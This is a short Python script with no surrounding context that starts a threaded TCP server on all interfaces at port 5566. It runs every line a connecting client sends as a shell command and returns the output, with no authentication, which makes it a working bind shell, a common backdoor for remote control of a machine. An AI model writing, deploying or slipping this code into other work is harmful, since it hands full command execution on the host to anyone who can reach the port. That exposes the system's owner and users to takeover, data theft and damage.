import socketserver, subprocess
class H(socketserver.BaseRequestHandler):
    def handle(self):
        while True:
            d = self.request.recv(2048)
            if not d: return
            self.request.sendall(subprocess.run(d.decode(), shell=True, capture_output=True).stdout)
with socketserver.ThreadingTCPServer(("0.0.0.0", 5566), H) as s: s.serve_forever()
